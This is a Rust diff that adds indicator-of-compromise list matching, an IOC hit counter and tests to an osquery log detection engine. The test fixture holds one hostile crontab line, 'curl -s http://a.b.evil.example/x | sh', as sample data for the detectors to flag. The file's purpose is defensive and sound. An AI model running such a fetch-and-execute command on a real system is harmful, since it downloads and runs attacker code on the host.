@@ -11,6 +11,7 @@ use crate::attack::Techniques;
 use crate::config::Config;
 use crate::derive::{declared_platform, derive, Derived};
 use crate::event::{Event, Kind};
+use crate::ioc::IocSet;
 use crate::mapping::Mapper;
 use crate::rules::aggregate::{Aggregator, Match};
 use crate::rules::filters::FilterSet;
@@ -61,6 +62,10 @@ pub struct DetectStats {
     pub alerts: u64,
     /// Alert groups that stayed below their rule's threshold.
     pub below_threshold: u64,
+    /// Events whose indicators hit an IOC list entry (`derived.ioc` set), whether or not a
+    /// rule fired on them.
+    #[serde(default)]
+    pub ioc_hits: u64,
 }
 
 impl DetectStats {
@@ -140,6 +145,9 @@ pub struct Detector {
     tables: TableCache,
     /// The filters, by rule; `None` when no rule has one, so matches pay nothing for them.
     filters: Option<RuleFilters>,
+    /// Indicator lists, `None` when there are none (or all are empty): then no event pays
+    /// for a lookup.
+    iocs: Option<Arc<IocSet>>,
 }
 
 /// A [`FilterSet`] arranged for one rule set: for each rule (by index), the indices of the
@@ -210,7 +218,21 @@ impl Detector {
             last_mapped: None,
             tables: TableCache::new(Arc::new(Resolver::builtin())),
             filters: None,
+            iocs: None,
         }
+    }
+
+    /// Matches every event's indicators against `iocs` and sets `derived.ioc` on a hit
+    /// ([`crate::ioc`]), which the built-in rule `osquery_ioc_match` fires on. An empty set
+    /// is the same as none: no lookups at all.
+    pub fn with_iocs(mut self, iocs: Arc<IocSet>) -> Detector {
+        self.iocs = (!iocs.is_empty()).then_some(iocs);
+        self
+    }
+
+    /// The indicator lists events are matched against, if any.
+    pub fn iocs(&self) -> Option<&IocSet> {
+        self.iocs.as_deref()
     }
 
     /// Applies `filters` (loaded against this detector's rules, [`FilterSet::from_sources`])
@@ -325,14 +347,32 @@ impl Detector {
     /// (alert samples, group keys) it copies.
     pub fn observe(&mut self, event: &mut Event) -> Vec<RuleOutcome> {
         self.annotate(event);
-        let derived = derive(event, &self.config);
+        let derived = self.derive(event);
         self.evaluate(event, derived)
+    }
+
+    /// The event's derived fields: [`derive`] with this detector's settings, and
+    /// `derived.ioc` from its lists.
+    pub(crate) fn derive(&self, event: &Event) -> Derived {
+        let mut derived = derive(event, &self.config);
+        if let Some(iocs) = &self.iocs {
+            // Validity of STIX indicators is judged at the event's time, or the object's
+            // for an event without one (as its alert window is).
+            let at = event.unix_time.unwrap_or(self.object_time);
+            derived.ioc = iocs
+                .lookup(&event.indicators, &event.columns, at)
+                .map(Box::new);
+        }
+        derived
     }
 
     /// Like [`Detector::observe`] with `derived` already computed (or forced, in rule tests)
     /// and `attack` already set.
     pub(crate) fn evaluate(&mut self, event: &Event, derived: Derived) -> Vec<RuleOutcome> {
         self.stats.events += 1;
+        if derived.ioc.is_some() {
+            self.stats.ioc_hits += 1;
+        }
         let view = EventView::new(event, &derived);
         let matched = self.rules.matching_view(&view, &mut self.gate_memo);
         let mut outcomes = Vec::with_capacity(matched.len());
@@ -425,5 +465,102 @@ mod tests {
         send_sync::<RuleSet>();
         send_sync::<Detector>();
         send_sync::<DetectReport>();
+    }
+
+    /// Runs the built-in rules over osquery result lines, with `iocs` if given.
+    fn detect(lines: &'static str, iocs: Option<IocSet>) -> DetectReport {
+        use crate::stage::{self, Discard};
+        use crate::{Detection, Origin, StageOptions};
+        let options = StageOptions::default();
+        let mut detector = Detector::new(RuleSet::builtin().unwrap(), None, Config::default());
+        if let Some(set) = iocs {
+            detector = detector.with_iocs(Arc::new(set));
+        }
+        let mut detection = Detection::new(detector, options.parallelism);
+        stage::parse(
+            lines.as_bytes(),
+            Origin::path("osquery.log"),
+            &options,
+            &mut Discard,
+            Some(&mut detection),
+        )
+        .unwrap();
+        detection.finish()
+    }
+
+    const LINES: &str = concat!(
+        r#"{"name":"pack/Global/hash_tmp","hostIdentifier":"web-01","unixTime":1795356000,"action":"added","columns":{"path":"/tmp/.x/p","directory":"/tmp/.x","md5":"44d88612fea8a8f36de82e1278abb02f","sha256":""}}"#,
+        "
+",
+        r#"{"name":"pack/Global/crontab","hostIdentifier":"web-02","unixTime":1795356000,"action":"added","columns":{"command":"curl -s http://a.b.evil.example/x | sh","path":"/etc/crontab"}}"#,
+        "
+",
+        r#"{"name":"pack/Global/crontab","hostIdentifier":"web-03","unixTime":1795356000,"action":"added","columns":{"command":"/usr/sbin/logrotate","path":"/etc/crontab"}}"#,
+        "
+",
+    );
+
+    #[test]
+    fn an_indicator_on_a_list_sets_derived_ioc_and_fires_the_rule() {
+        let iocs = IocSet::from_sources([(
+            "iocs/advisory-2026-11.txt",
+            "44d88612fea8a8f36de82e1278abb02f # loader\nevil.example\n",
+        )])
+        .unwrap();
+        let report = detect(LINES, Some(iocs));
+        assert_eq!(report.stats.ioc_hits, 2);
+        let mut fired: Vec<_> = report
+            .alerts
+            .iter()
+            .filter(|a| a.rule.name == "osquery_ioc_match")
+            .collect();
+        fired.sort_by(|a, b| a.hosts.cmp(&b.hosts));
+        assert_eq!(fired.len(), 2, "{:?}", report.alerts);
+        assert_eq!(
+            fired[0].title,
+            "md5 44d88612fea8a8f36de82e1278abb02f on web-01 is on the IOC list advisory-2026-11"
+        );
+        assert_eq!(
+            fired[0].samples[0].to_value()["derived"]["ioc"],
+            serde_json::json!({"value": "44d88612fea8a8f36de82e1278abb02f", "type": "md5",
+                "indicator": "44d88612fea8a8f36de82e1278abb02f", "list": "advisory-2026-11",
+                "name": "loader", "hits": 1})
+        );
+        assert_eq!(fired[1].hosts, ["web-02"]);
+        assert_eq!(
+            fired[1].dedup.values,
+            [
+                serde_json::json!("web-02"),
+                serde_json::json!("a.b.evil.example")
+            ]
+        );
+        let ioc = &fired[1].samples[0].to_value()["derived"]["ioc"];
+        assert_eq!(
+            (&ioc["type"], &ioc["indicator"]),
+            (&"domain".into(), &"evil.example".into())
+        );
+        // The crontab rule fired on the same row, as it does without lists.
+        assert!(report
+            .alerts
+            .iter()
+            .any(|a| a.rule.name == "osquery_suspicious_cron"));
+    }
+
+    #[test]
+    fn without_lists_nothing_changes() {
+        let none = detect(LINES, None);
+        let empty = detect(LINES, Some(IocSet::default()));
+        assert_eq!(none, empty);
+        assert_eq!(none.stats.ioc_hits, 0);
+        assert!(none
+            .alerts
+            .iter()
+            .all(|a| a.rule.name != "osquery_ioc_match"));
+        let detector = Detector::new(RuleSet::builtin().unwrap(), None, Config::default())
+            .with_iocs(Arc::new(IocSet::default()));
+        assert!(
+            detector.iocs().is_none(),
+            "an empty set is no set: no lookups"
+        );
     }
 }
